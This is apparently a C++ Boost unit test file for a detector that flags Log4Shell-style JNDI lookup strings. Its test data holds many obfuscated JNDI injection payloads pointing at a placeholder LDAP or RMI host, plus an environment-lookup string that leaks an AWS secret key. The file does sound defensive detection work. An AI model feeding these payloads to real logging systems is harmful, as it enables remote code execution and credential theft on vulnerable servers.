#include "detect/jndi.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

using gird::detect::Signs;

namespace {

Signs signs_of(std::string_view text) {
  Signs signs;
  gird::detect::jndi_signs(text, signs);
  return signs;
}

bool seen(std::string_view text, std::string_view sign) { return signs_of(text).has(sign); }

}  // namespace

BOOST_AUTO_TEST_SUITE(jndi)

BOOST_AUTO_TEST_CASE(lookups_however_they_are_spelled) {
  for (const std::string_view text :
       {"${jndi:ldap://a.example/x}", "x ${JnDi:rmi://a.example} y", "${jndi:dns:/a.example",
        "${${lower:j}ndi:ldap://a.example}", "${${lower:${lower:jndi}}:rmi://a.example}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://a.example}",
        "${${what:ever:-j}ndi:ldap://a.example}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:x}", "${j${loWer:Nd}i${uPper::}//x}",
        "${${env:TEST:-j}ndi${env:TEST:-:}ldap}",
        "${${lower:jnd}${lower:${upper:\xC4\xB1}}:ldap://x}",
        "$${env:x:-${env:x:-$}{jndi:ldap://a.example}}}", "${a:-}${j${b:c:-ndi}${d:e:-:l}x}",
        "}}}{{{${jndi:ldap://a}", "${a${${${${::-j}ndi:x}"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text, "jndi/lookup")); }
  }
}

BOOST_AUTO_TEST_CASE(a_long_name_does_not_push_the_default_away) {
  BOOST_TEST(
      seen("${${env:" + std::string(5000, 'A') + ":-j}ndi:ldap://a.example}", "jndi/lookup"));
  BOOST_TEST(seen(std::string(5000, '$') + "{jndi:ldap://a.example}", "jndi/lookup"));
}

BOOST_AUTO_TEST_CASE(what_is_none) {
  for (const std::string_view text :
       {"", "$", "${", "${}", "${HOME}", "${HOME:-/root}", "jndi: the naming interface",
        "java:comp/env/jdbc", "{jndi:x}", "ldap://a.example", "${name:-jndi}", "${a}${b:-c}"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(signs_of(text).all().empty()); }
  }
}

BOOST_AUTO_TEST_CASE(what_is_less_than_one) {
  BOOST_TEST(seen("jndi:ldap://a.example/x", "jndi/url"));
  BOOST_TEST(seen("${${lower:x}y}", "jndi/nested"));
  BOOST_TEST(seen("${env:AWS_SECRET_ACCESS_KEY}", "jndi/leak"));
}

BOOST_AUTO_TEST_CASE(a_million_of_anything_is_read_once) {
  for (const std::string_view unit : {"${", "}", "$", "${::-", "${a:-b}", "jndi:", ":", "{"}) {
    std::string text;
    while (text.size() < 1U << 20U) text += unit;
    BOOST_TEST_CONTEXT(unit) { BOOST_TEST(signs_of(text).all().size() <= Signs::most); }
  }
}

BOOST_AUTO_TEST_SUITE_END()
